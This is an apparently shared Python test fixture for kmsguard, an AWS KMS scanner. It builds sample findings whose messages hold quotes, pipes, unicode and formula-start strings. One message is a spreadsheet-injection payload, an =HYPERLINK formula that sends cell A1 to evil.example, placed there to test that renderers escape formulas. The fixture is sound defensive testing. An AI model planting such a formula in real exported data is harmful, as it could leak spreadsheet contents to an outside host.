"""A small ScanResult that exercises every status, every severity and the awkward characters (shared by the tests)."""

from __future__ import annotations

from datetime import UTC, datetime

from kmsguard.model.finding import Finding, Severity, Status, region_arn
from kmsguard.model.result import ScanResult

ACCT = "111122223333"
OTHER = "444455556666"
KEY_A = f"arn:aws:kms:us-east-1:{ACCT}:key/1111aaaa-0000-0000-0000-000000000001"
KEY_B = f"arn:aws:kms:us-east-1:{ACCT}:key/2222bbbb-0000-0000-0000-000000000002"
KEY_C = f"arn:aws:kms:eu-west-1:{OTHER}:key/3333cccc-0000-0000-0000-000000000003"
BUCKET = "arn:aws:s3:::payroll-exports"
UNKNOWN_CHECK = "custom_future_check"

# Messages chosen to break naive renderers: quotes, pipes, newlines, commas, unicode, markup, formula starts.
MSG_QUOTES = 'Bucket "payroll-exports" is encrypted with key alias/retiring, pending deletion in 7 days'
MSG_PIPES = "Rotation is off | enabled=false\nsecond line, with a comma — ключ ✓ [bold]not markup[/bold]"
MSG_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MSG_AT = "@SUM(1+1) tag Owner missing"
MSG_MINUS = "-1+2 unknown check says hi"


def _f(check_id: str, status: Status, severity: Severity, arn: str, message: str, **kw: object) -> Finding:
    fields: dict[str, object] = {
        "check_id": check_id,
        "status": status,
        "severity": severity,
        "account": ACCT,
        "region": "us-east-1",
        "resource_type": "AWS::KMS::Key",
        "resource_arn": arn,
        "message": message,
        "remediation": "" if status is Status.PASS else f"Fix {check_id}.",
        "compliance": {"nist-800-171": ["3.13.10"], "cmmc-l2": ["SC.L2-3.13.10"]},
    }
    fields.update(kw)
    return Finding.model_validate(fields)


def sample_findings() -> list[Finding]:
    return [
        # Deliberately not in output order: the renderers must sort.
        _f("key_no_alias", Status.FAIL, Severity.LOW, KEY_B, MSG_AT),
        _f(
            "key_rotation_disabled",
            Status.FAIL,
            Severity.MEDIUM,
            KEY_A,
            MSG_PIPES,
            evidence={"alias": "alias/prod-data", "rotation": {"enabled": False, "period_days": None}, "n": [1, 2]},
        ),
        _f(
            "resource_key_pending_deletion",
            Status.FAIL,
            Severity.CRITICAL,
            BUCKET,
            MSG_QUOTES,
            resource_type="AWS::S3::Bucket",
            evidence={"key": {"arn": KEY_C, "state": "PendingDeletion", "alias": "alias/retiring"}},
        ),
        _f("key_pending_deletion", Status.FAIL, Severity.HIGH, KEY_C, MSG_FORMULA, account=OTHER, region="eu-west-1"),
        _f(
            UNKNOWN_CHECK,
            Status.FAIL,
            Severity.INFO,
            region_arn("aws", ACCT, "us-east-1"),
            MSG_MINUS,
            resource_type="AWS::Account::Region",
            compliance={},
        ),
        _f("key_rotation_disabled", Status.PASS, Severity.MEDIUM, KEY_B, "Rotation is enabled"),
        _f(
            "scan_collection_error",
            Status.ERROR,
            Severity.MEDIUM,
            KEY_B,
            "could not read key policy: kms:GetKeyPolicy failed with AccessDeniedException",
            evidence={"service": "kms", "operation": "GetKeyPolicy", "code": "AccessDeniedException"},
            compliance={},
        ),
        _f(
            "key_rotation_disabled",
            Status.MUTED,
            Severity.MEDIUM,
            KEY_C,
            "Rotation is off",
            account=OTHER,
            region="eu-west-1",
            mute_reason="Accepted risk | ticket SEC-42",
        ),
    ]


def make_result(findings: list[Finding]) -> ScanResult:
    return ScanResult(
        kmsguard_version="0.1.0",
        scanned_at=datetime(2024, 5, 1, 12, 0, 0, tzinfo=UTC),
        accounts=[ACCT, OTHER],
        regions=["eu-west-1", "us-east-1"],
        findings=findings,
    )
